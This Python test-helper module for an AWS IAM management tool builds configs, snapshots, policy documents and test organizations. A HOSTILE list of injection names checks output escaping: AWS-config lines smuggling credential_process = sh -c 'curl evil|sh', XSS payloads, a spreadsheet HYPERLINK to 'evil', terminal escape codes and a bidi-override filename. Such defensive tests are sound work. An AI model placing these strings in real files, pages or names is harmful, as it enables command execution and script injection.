"""Builders for the organizations tests are about, in the words of IAM (PMapper's test graph builders are
the model): small functions that read like the org they make and return what rolegate reads — rolegate.yaml
text, a Snapshot, an AccountState, policy documents.

- `seed_config(ids)`: the seed's rolegate.yaml (a hub, three spokes, cobus and his groups).
- `desired()`, `empty_snapshot()`, `as_aws_has_it(desired)`: that org compiled, its accounts before any apply,
  and after a perfect one, for the planner, the exports and the importer.
- `small_snapshot()`: one hub account with a role, a group, a user and a policy, as snapshot JSON.
- `doc`, `allow`, `deny`, `trusts`, `trust`, `may_assume`: policy documents and statements.
- `iam_arn`, `iam_user`, `iam_group`, `iam_role`, `iam_policy`, `rolegate_grant`, `report_row`: IAM objects as
  the collector reads them, their ARNs spelt here as IAM writes them (not through rolegate's naming).
- `OrgBuilder`: a Snapshot built account by account (`.user`, `.group`, `.role`, `.policy`, `.grant`, `.add`),
  in the hub unless another account is named; `audited_org(...)` (a hub and prod as the audit reads them)
  and `seed_like_snapshot()` (the seed with a conditional role, a chain and markup in a name) are built on it.
- `SnapshotWorld`: a hub with users and groups, spokes with roles and trusts, SCPs over accounts, written
  into a Snapshot (the access tests; tests/aws/test_access_live.py writes the same worlds into moto).
- `WITH_MFA`, `WITHOUT_MFA`, `path_effect`, `plain_effect`: request contexts and answers of decide().
"""

from __future__ import annotations

import json
from collections.abc import Iterable
from typing import Any
from urllib.parse import quote

from rolegate.access.decide import Decision
from rolegate.model import naming
from rolegate.model.load import parse
from rolegate.plan.compile import Desired, compile_config
from rolegate.plan.diff import CONSOLE_TAG
from rolegate.state.snapshot import AccountState, Group, ManagedPolicy, Role, Snapshot, User

# -- the seed's organization, as rolegate.yaml and as its accounts ------------------------------------------


SPOKE_COLORS = {"development": "green", "staging": "yellow", "production": "red"}


def accounts_yaml(ids: dict[str, str], *, aliased: tuple[str, ...] = ("master",)) -> str:
    """The `accounts:` block of the seed's organization: the hub and three spokes with their real ids and
    emails, the spokes with their console colour, and a `demo-NAME` alias on each account in `aliased`."""
    lines = ["accounts:\n"]
    for name in ("master", *SPOKE_COLORS):
        lines.append(f'  {name}:\n    id: "{ids[name]}"\n    email: you+{name}@example.com\n')
        if name in aliased:
            lines.append(f"    alias: demo-{name}\n")
        if name in SPOKE_COLORS:
            lines.append(f"    color: {SPOKE_COLORS[name]}\n")
    return "".join(lines)


def seed_config(
    ids: dict[str, str],
    *,
    extra_users: str = "",
    max_session: str = "1h",
    require_mfa: str = "true",
    dev_groups: str = "[development]",
) -> str:
    """The seed's setup as rolegate.yaml, with the organization's real ids."""
    return f"""\
version: 1
organization:
  name: demo
  hub: master
  region: us-west-2
  password_policy:
    minimum_length: 14
{accounts_yaml(ids)}roles:
  administrator:
    accounts: [development, staging, production]
    policies: [AdministratorAccess]
    require_mfa: {require_mfa}
    max_session: {max_session}
groups:
  development_administrator:
    assume:
      administrator: {dev_groups}
  production_administrator:
    assume:
      administrator: [staging, production]
  master_administrator:
    policies: [AdministratorAccess]
users:
  cobus:
    groups: [development_administrator, production_administrator, master_administrator]
    console: true
    mfa: required
{extra_users}"""


def example_config(ids: dict[str, str]) -> str:
    """The design's rolegate.example.yaml, every field of the format, with this organization's ids: more
    kinds of resource than the seed, in every account; jane.doe's Terraform name needs the hash of
    `identifier`, and robot has neither console nor groups."""
    return f"""\
version: 1
organization:
  name: demo
  hub: master
  region: us-west-2
  bootstrap_role: OrganizationAccountAccessRole
  password_policy:
    minimum_length: 14
    require_symbols: true
    require_numbers: true
    require_uppercase: true
    require_lowercase: true
    max_age_days: 90
    reuse_prevention: 24
{accounts_yaml(ids, aliased=("master", "development"))}roles:
  administrator:
    accounts: [development, staging, production]
    policies: [AdministratorAccess]
    require_mfa: true
    max_session: 1h
  read_only:
    accounts: ["*"]
    policies: [ReadOnlyAccess]
    require_mfa: true
    max_session: 8h
groups:
  development_administrator:
    assume:
      administrator: [development]
  production_administrator:
    assume:
      administrator: [staging, production]
  everyone_read_only:
    assume:
      read_only: ["*"]
  master_administrator:
    policies: [AdministratorAccess]
users:
  cobus:
    groups: [development_administrator, production_administrator, master_administrator]
    console: true
    mfa: required
  jane.doe:
    groups: [everyone_read_only]
  robot: {{}}
"""


IDS = {
    "master": "111111111111",
    "development": "222222222222",
    "staging": "333333333333",
    "production": "444444444444",
}


def desired() -> Desired:
    return compile_config(parse(seed_config(IDS)).config)


def empty_snapshot() -> Snapshot:
    return Snapshot(
        accounts={
            name: AccountState(name, account_id, alias_read=True, password_policy_read=name == "master")
            for name, account_id in IDS.items()
        }
    )


def as_aws_has_it(want: Desired) -> Snapshot:
    """The accounts after a perfect apply, documents URL-encoded and reordered as IAM may return them."""
    snap = empty_snapshot()
    owner = {naming.OWNER_TAG: "demo"}
    for name, acct in want.accounts.items():
        state = snap.accounts[name]
        state.alias = acct.alias
        state.password_policy = dict(acct.password_policy or {}) or None
        for role in acct.roles.values():
            encoded = quote(json.dumps(role.trust_policy, indent=4, sort_keys=True))
            state.roles[role.name] = Role(
                role.name,
                naming.role_arn(acct.account_id, role.name),
                "/",
                json.loads(json.dumps(role.trust_policy)),
                list(reversed(role.managed_policies)),
                tags=dict(owner),
                max_session=role.max_session,
            )
            assert encoded  # the collector decodes; equivalence of encodings is policydoc's test
        for policy in acct.policies.values():
            state.policies[policy.name] = ManagedPolicy(
                policy.name, policy.arn, naming.OWNED_PATH, policy.document, "v1", ["v1"]
            )
        for group in acct.groups.values():
            state.groups[group.name] = Group(
                group.name,
                f"arn:aws:iam::{acct.account_id}:group/rolegate/{group.name}",
                naming.OWNED_PATH,
                list(group.managed_policies),
            )
        for user in acct.users.values():
            tags = dict(owner) | ({CONSOLE_TAG: "true"} if user.console else {})
            state.users[user.name] = User(
                user.name, naming.user_arn(acct.account_id, user.name), "/", list(user.groups), tags=tags
            )
    return snap


def small_snapshot() -> dict[str, Any]:
    trust = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "sts:AssumeRole",
             "Principal": {"AWS": "arn:aws:iam::111111111111:root"},
             "Condition": {"Bool": {"aws:MultiFactorAuthPresent": "true"}}}]}  # fmt: skip
    allow = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
    hub = AccountState(
        name="master",
        account_id="111111111111",
        roles={"admin": Role("admin", "arn:aws:iam::111111111111:role/admin", "/", trust, max_session=3600)},
        groups={
            "ops": Group("ops", "arn:aws:iam::111111111111:group/ops", "/", inline_policies={"p": allow})
        },
        users={"cobus": User("cobus", "arn:aws:iam::111111111111:user/cobus", "/", groups=["ops"])},
        policies={"p": ManagedPolicy("p", "arn:aws:iam::111111111111:policy/p", "/", allow)},
        credential_report=[{"user": "cobus", "mfa_active": "true"}],
        summary={"AccountMFAEnabled": 1},
    )
    data: dict[str, Any] = json.loads(Snapshot(accounts={"master": hub}, taken_at="2026-01-01").dumps())
    return data


# -- documents and worlds for the access tests ------------------------------------------------------------

HUB, PROD, STAGE = "111111111111", "222222222222", "333333333333"
ORG_ID = "o-a1b2c3d4e5"
ACCOUNTS = {"hub": ("hub", HUB), "prod": ("prod", PROD), "stage": ("stage", STAGE)}
ADMIN = "arn:aws:iam::aws:policy/AdministratorAccess"
ASSUME = "sts:AssumeRole"
Doc = dict[str, Any]


# -- documents ------------------------------------------------------------------------------------------


def doc(*statements: Doc) -> Doc:
    return {"Version": "2012-10-17", "Statement": list(statements)}


def allow(resource: Any = "*", action: Any = ASSUME, **more: Any) -> Doc:
    return {"Effect": "Allow", "Action": action, "Resource": resource, **more}


def deny(resource: Any = "*", action: Any = ASSUME, **more: Any) -> Doc:
    return {"Effect": "Deny", "Action": action, "Resource": resource, **more}


def trusts(principal: Any, condition: Doc | None = None, effect: str = "Allow", **more: Any) -> Doc:
    """One trust statement; `principal` is the AWS principal (ARN, account id or list) or a raw Principal."""
    value = principal if principal == "*" or isinstance(principal, dict) else {"AWS": principal}
    stmt: Doc = {"Effect": effect, "Principal": value, "Action": ASSUME, **more}
    if condition:
        stmt["Condition"] = condition
    return stmt


def trust(principal: Any, condition: Doc | None = None) -> Doc:
    return doc(trusts(principal, condition))


MFA = {"Bool": {"aws:MultiFactorAuthPresent": "true"}}
FULL_ACCESS = doc({"Effect": "Allow", "Action": "*", "Resource": "*"})  # FullAWSAccess, the default SCP
# RCPFullAWSAccess, on every node once RCPs are enabled, and an RCP keeping sts:AssumeRole to MFA sessions.
RCP_FULL_ACCESS = doc({"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"})
RCP_ASSUME_ONLY_WITH_MFA = doc(
    {
        "Sid": "AssumeOnlyWithMfa",
        "Effect": "Deny",
        "Principal": "*",
        "Action": "sts:AssumeRole",
        "Resource": "*",
        "Condition": {"BoolIfExists": {"aws:MultiFactorAuthPresent": "false"}},
    }
)


# -- IAM objects, and organizations built of them account by account ----------------------------------------

IamObject = User | Group | Role | ManagedPolicy


def iam_arn(account_id: str, kind: str, name: str, path: str = "/") -> str:
    """An IAM ARN as IAM writes it, the path between the kind and the name: `user/cobus`,
    `policy/rolegate/development_administrator`."""
    return f"arn:aws:iam::{account_id}:{kind}{path}{name}"


def iam_user(
    account_id: str,
    name: str,
    *,
    path: str = "/",
    groups: Iterable[str] = (),
    managed: Iterable[str] = (),
    inline: dict[str, Doc] | None = None,
    **more: Any,
) -> User:
    """A user; `more` are User's other fields (permissions_boundary, access_keys, login_profile, …)."""
    return User(
        name, iam_arn(account_id, "user", name, path), path, list(groups), list(managed), dict(inline or {}),
        **more,
    )  # fmt: skip


def iam_group(
    account_id: str,
    name: str,
    *,
    path: str = "/",
    managed: Iterable[str] = (),
    inline: dict[str, Doc] | None = None,
) -> Group:
    return Group(name, iam_arn(account_id, "group", name, path), path, list(managed), dict(inline or {}))


def iam_role(
    account_id: str,
    name: str,
    trust_policy: Doc,
    *,
    path: str = "/",
    managed: Iterable[str] = (),
    inline: dict[str, Doc] | None = None,
    **more: Any,
) -> Role:
    """A role; `more` are Role's other fields (last_used, created, max_session, tags, …)."""
    return Role(
        name, iam_arn(account_id, "role", name, path), path, trust_policy, list(managed), dict(inline or {}),
        **more,
    )  # fmt: skip


def iam_policy(
    account_id: str, name: str, document: Doc, *, path: str = "/", versions: Iterable[str] = ("v1",)
) -> ManagedPolicy:
    """A customer managed policy; IAM gives every one a v1, `versions` may list more."""
    return ManagedPolicy(
        name, iam_arn(account_id, "policy", name, path), path, document, versions=list(versions)
    )


def rolegate_grant(account_id: str, name: str, document: Doc) -> tuple[Group, ManagedPolicy]:
    """A grant as rolegate writes it into the hub: a managed policy under /rolegate/ and the group of the
    same name it is attached to."""
    policy = iam_policy(account_id, name, document, path=naming.OWNED_PATH, versions=())
    return iam_group(account_id, name, path=naming.OWNED_PATH, managed=[policy.arn]), policy


def may_assume(resource: Any, sid: str | None = None) -> Doc:
    """An identity policy allowing sts:AssumeRole on `resource` (one ARN, a pattern or a list)."""
    statement = allow(resource)
    return doc({"Sid": sid, **statement} if sid else statement)


def report_row(user: str, arn: str, **values: str) -> dict[str, str]:
    """A credential report row: no password, no MFA, no active key, but for `values`."""
    row = {"user": user, "arn": arn, "password_enabled": "false", "mfa_active": "false"}
    row |= {f"access_key_{n}_active": "false" for n in "12"}
    return row | values


def root_signed_in_with_mfa(state: AccountState) -> None:
    """The account's root user as the audit wants it: MFA on, no access keys (report row and summary)."""
    root = report_row("<root_account>", f"arn:aws:iam::{state.account_id}:root", mfa_active="true")
    state.credential_report = [root]
    state.summary = {"AccountMFAEnabled": 1, "AccountAccessKeysPresent": 0}


class OrgBuilder:
    """Given this organization…: a Snapshot of accounts by logical name, and the users, groups, roles and
    policies written into them, in the hub unless another account is named."""

    def __init__(self, accounts: dict[str, str], *, hub: str, **snapshot: Any) -> None:
        self.hub_name = hub
        self.snapshot = Snapshot(
            accounts={name: AccountState(name, account_id) for name, account_id in accounts.items()},
            **snapshot,
        )

    def account(self, name: str | None = None) -> AccountState:
        return self.snapshot.accounts[name or self.hub_name]

    @property
    def hub(self) -> AccountState:
        return self.account()

    def add(self, *objects: IamObject, account: str | None = None) -> None:
        """Objects already built (iam_user, iam_role, …) put into an account, by their name."""
        state = self.account(account)
        for each in objects:
            if isinstance(each, User):
                state.users[each.name] = each
            elif isinstance(each, Group):
                state.groups[each.name] = each
            elif isinstance(each, Role):
                state.roles[each.name] = each
            else:
                state.policies[each.name] = each

    def user(self, name: str, *, account: str | None = None, **fields: Any) -> User:
        user = iam_user(self.account(account).account_id, name, **fields)
        self.add(user, account=account)
        return user

    def group(
        self, name: str, inline: dict[str, Doc] | None = None, managed: Iterable[str] = (), *,
        account: str | None = None, path: str = "/",
    ) -> Group:  # fmt: skip
        group = iam_group(self.account(account).account_id, name, path=path, managed=managed, inline=inline)
        self.add(group, account=account)
        return group

    def role(
        self, name: str, trust_policy: Doc, inline: dict[str, Doc] | None = None, *,
        account: str | None = None, **fields: Any,
    ) -> Role:  # fmt: skip
        role = iam_role(self.account(account).account_id, name, trust_policy, inline=inline, **fields)
        self.add(role, account=account)
        return role

    def policy(
        self, name: str, document: Doc, versions: Iterable[str] = ("v1",), *,
        account: str | None = None, path: str = "/",
    ) -> ManagedPolicy:  # fmt: skip
        policy = iam_policy(self.account(account).account_id, name, document, path=path, versions=versions)
        self.add(policy, account=account)
        return policy

    def grant(self, name: str, document: Doc, *, account: str | None = None) -> tuple[Group, ManagedPolicy]:
        group, policy = rolegate_grant(self.account(account).account_id, name, document)
        self.add(group, policy, account=account)
        return group, policy


def audited_org(
    *,
    roles: Iterable[Role] = (),
    users: Iterable[User] = (),
    groups: Iterable[Group] = (),
    policies: Iterable[ManagedPolicy] = (),
    hub_report: Iterable[dict[str, str]] = (),
    prod_users: Iterable[User] = (),
    password_policy: dict[str, Any] | None = None,
) -> Snapshot:
    """A hub and prod as the audit reads them: root users with MFA and no keys, the hub's password policy
    read, AdministratorAccess's document known; `users`, `groups`, `policies` and `hub_report` (credential
    report rows) in the hub, `roles` and `prod_users` in prod."""
    built = OrgBuilder(
        {"hub": HUB, "prod": PROD}, hub="hub", aws_managed_policies={ADMIN: _copy(FULL_ACCESS)}
    )
    built.hub.password_policy, built.hub.password_policy_read = password_policy, True
    built.add(*users, *groups, *policies)
    built.add(*roles, *prod_users, account="prod")
    for state in built.snapshot.accounts.values():
        root_signed_in_with_mfa(state)
    built.hub.credential_report = [*(built.hub.credential_report or []), *hub_report]
    return built.snapshot


def seed_like_snapshot() -> Snapshot:
    """Like the seed organization (IDS): hub `master` with cobus and alice, who reach the spokes through
    rolegate's grants; `administrator` (MFA) and AWS's own OrganizationAccountAccessRole (no MFA) in each
    spoke; plus, in production, an `auditor` only reachable from one network (conditional) and a `deployer`
    reached from staging's administrator (a chain). Names carry markup, to show pages escape them."""
    hub_root = f"arn:aws:iam::{IDS['master']}:root"
    built = OrgBuilder(IDS, hub="master", taken_at="2024-05-01T12:00:00+00:00", organization_id="o-example")
    for spoke in SPOKE_COLORS:
        admin = built.role("administrator", trust(hub_root, MFA), account=spoke)
        built.role("OrganizationAccountAccessRole", trust(hub_root), account=spoke)
        built.grant(f"{spoke}_administrator", may_assume(admin.arn, sid="AssumeAdministrator"))
    staging_admin = built.account("staging").roles["administrator"]
    network = {"IpAddress": {"aws:SourceIp": "203.0.113.0/24"}}
    auditor = built.role("auditor", trust(hub_root, network), account="production")
    deployer = built.role("deployer", trust(staging_admin.arn), account="production")
    staging_admin.inline_policies["chain"] = may_assume(deployer.arn)
    everything = {"everything": may_assume("*")}
    built.user("cobus", groups=[f"{spoke}_administrator" for spoke in SPOKE_COLORS], inline=everything)
    built.user("alice", groups=["staging_administrator"], inline={"audit": may_assume(auditor.arn)})
    # IAM would refuse the name; a page must still escape it
    built.user("<b>mallory</b>", groups=["development_administrator"])
    return built.snapshot


# -- worlds: what a scenario is built from ----------------------------------------------------------------


class World:
    """Accounts by the scenario's names (hub, prod, stage); the writes are made by a subclass: into a
    hand-built snapshot here, into moto's IAM in the live tests."""

    def __init__(self, accounts: dict[str, tuple[str, str]], org_id: str, prefix: str = "") -> None:
        self.accounts = accounts
        self.org_id = org_id
        self.prefix = prefix  # before every user, group, role and policy name: many scenarios in one org

    def name(self, name: str) -> str:
        return self.prefix + name

    def id(self, account: str) -> str:
        return self.accounts[account][1]

    def root(self, account: str) -> str:
        return f"arn:aws:iam::{self.id(account)}:root"

    def user_arn(self, name: str, account: str = "hub") -> str:
        return f"arn:aws:iam::{self.id(account)}:user/{self.name(name)}"

    def role_arn(self, name: str, account: str = "prod") -> str:
        return f"arn:aws:iam::{self.id(account)}:role/{self.name(name)}"

    def policy(self, name: str, document: Doc, account: str = "hub") -> str:
        raise NotImplementedError

    def group(
        self, name: str, *, inline: dict[str, Doc] | None = None, managed: tuple[str, ...] = ()
    ) -> None:
        raise NotImplementedError

    def user(
        self,
        name: str,
        *,
        inline: dict[str, Doc] | None = None,
        managed: tuple[str, ...] = (),
        groups: tuple[str, ...] = (),
        boundary: str | None = None,
    ) -> None:
        raise NotImplementedError

    def role(
        self,
        name: str,
        account: str,
        *,
        trust: Doc,
        inline: dict[str, Doc] | None = None,
        managed: tuple[str, ...] = (),
    ) -> None:
        raise NotImplementedError

    def scp(self, account: str, *levels: list[Doc]) -> None:
        """Service control policies over an account, one list of documents per level."""
        raise NotImplementedError

    def organization_unreadable(self) -> None:
        """Organizations could not be read: the snapshot holds no organization id."""
        raise NotImplementedError

    def aws_managed_document(self, arn: str, document: Doc) -> None:
        """The document of an AWS managed policy, as read from IAM (only a snapshot may lack it)."""
        raise NotImplementedError


class SnapshotWorld(World):
    def __init__(
        self, accounts: dict[str, tuple[str, str]] = ACCOUNTS, org_id: str = ORG_ID, prefix: str = ""
    ) -> None:
        super().__init__(accounts, org_id, prefix)
        self.snapshot = Snapshot(
            accounts={name: AccountState(name, account_id) for name, account_id in accounts.values()},
            organization_id=org_id,
        )

    def _account(self, account: str) -> AccountState:
        return self.snapshot.accounts[self.accounts[account][0]]

    def policy(self, name: str, document: Doc, account: str = "hub") -> str:
        policy = iam_policy(self.id(account), self.name(name), _copy(document), versions=())
        self._account(account).policies[policy.name] = policy
        return policy.arn

    def group(
        self, name: str, *, inline: dict[str, Doc] | None = None, managed: tuple[str, ...] = ()
    ) -> None:
        group = iam_group(self.id("hub"), self.name(name), managed=managed, inline=_copy(inline or {}))
        self._account("hub").groups[group.name] = group

    def user(
        self,
        name: str,
        *,
        inline: dict[str, Doc] | None = None,
        managed: tuple[str, ...] = (),
        groups: tuple[str, ...] = (),
        boundary: str | None = None,
    ) -> None:
        user = iam_user(
            self.id("hub"), self.name(name), groups=[self.name(g) for g in groups], managed=managed,
            inline=_copy(inline or {}), permissions_boundary=boundary,
        )  # fmt: skip
        self._account("hub").users[user.name] = user

    def role(
        self,
        name: str,
        account: str,
        *,
        trust: Doc,
        inline: dict[str, Doc] | None = None,
        managed: tuple[str, ...] = (),
    ) -> None:
        role = iam_role(
            self.id(account), self.name(name), _copy(trust), managed=managed, inline=_copy(inline or {})
        )
        self._account(account).roles[role.name] = role

    def scp(self, account: str, *levels: list[Doc]) -> None:
        self.snapshot.scps[self.id(account)] = [list(level) for level in levels]

    def organization_unreadable(self) -> None:
        self.snapshot.organization_id = ""

    def aws_managed_document(self, arn: str, document: Doc) -> None:
        self.snapshot.aws_managed_policies[arn] = _copy(document)


def _copy(value: Any) -> Any:
    return json.loads(json.dumps(value))


# -- decide(): request contexts and its answers in three words --------------------------------------------

WITH_MFA = {"aws:MultiFactorAuthPresent": "true", "aws:MultiFactorAuthAge": "0"}
WITHOUT_MFA: dict[str, str | None] = {"aws:MultiFactorAuthPresent": None, "aws:MultiFactorAuthAge": None}


def path_effect(path: Any) -> str:
    """A graph edge's path as decide() would say it: no path is a deny, an unconditional one an allow."""
    if path is None:
        return "deny"
    return "allow" if path[0] is True else "conditional"


def plain_effect(decision: Decision) -> str:
    return "deny" if decision.effect in ("explicit_deny", "implicit_deny") else decision.effect


# -- hostile names: what every writer must show as text, whatever the source ---------------------------------

HOSTILE = [
    "cobus\n",
    "x]\n[profile evil]\ncredential_process = sh -c 'curl evil|sh'",
    "dev]",
    "[profile x",
    "x]\n[default]\ncredential_process = touch /tmp/pwned",
    "a\rb",
    "a\r\nregion = evil",
    "a\x00b",
    "a\x1b[31mred\x1b[0m",
    "a\x1b]0;owned\x07",
    "a\x07bell",
    "a\x9b31mcsi",
    "a\x85next-line",
    "admin\u202etxt.exe",
    "a\u2066isolated\u2069",
    "zero\u200bwidth",
    "line\u2028sep",
    "\ufeffbom",
    "del\x7f",
    "tab\tbed",
    " leading",
    "trailing ",
    "semi;colon",
    "hash#tag",
    "two words",
    'quo"te',
    "apo'strophe",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil")',
    "café",
    "ｃobus",
    "١٢٣",
    "a=b\nc=d",
]


def constructed(
    org: str = "demo",
    account: str = "development",
    role: str = "administrator",
    user: str = "cobus",
    region: str = "us-east-1",
) -> Any:
    """The same seed with no validation at all: names as they would arrive from AWS, a snapshot, an import."""
    from rolegate.model.config import Account, Config, Group, Organization, Role, User

    return Config.model_construct(
        version=1,
        organization=Organization.model_construct(name=org, hub="master", region=region),
        accounts={
            "master": Account.model_construct(id="111111111111"),
            account: Account.model_construct(id="222222222222", color="red"),
        },
        roles={
            role: Role.model_construct(accounts=[account], policies=[], require_mfa=True, max_session="1h")
        },
        groups={"admins": Group.model_construct(assume={role: [account]}, policies=[])},
        users={user: User.model_construct(groups=["admins"])},
    )


def hidden(text: str) -> list[str]:
    """Characters a terminal acts on or does not show (controls but newline, format and separator chars)."""
    import unicodedata

    return [ch for ch in text if ch != "\n" and unicodedata.category(ch) in {"Cc", "Cf", "Zl", "Zp"}]


def rehashed(data: dict[str, Any]) -> bytes:
    """A saved plan edited by someone who knows the format: the sha256 recomputed to match."""
    from rolegate.plan import saved

    body = {"planned": data.get("planned"), "plan": data.get("plan")}
    data["sha256"] = saved.sha256_text(json.dumps(body, sort_keys=True, separators=(",", ":")))
    return json.dumps(data).encode()


ENVIRONMENT_UNITS = "  units:\n    Environments:\n      Development: {}\n      Production: {}\n"


def organization_config(ids: dict[str, str], guardrails: str, units: str = ENVIRONMENT_UNITS) -> str:
    """The seed with `units` under organization, development and production placed in
    Environments/{Development,Production}, and the `guardrails:` block given (issue 20)."""
    text = seed_config(ids).replace("  password_policy:\n", units + "  password_policy:\n")
    for name in ("production", "development"):
        head = f'  {name}:\n    id: "{ids[name]}"\n'
        text = text.replace(head, head + f"    unit: Environments/{name.capitalize()}\n")
    return text + guardrails
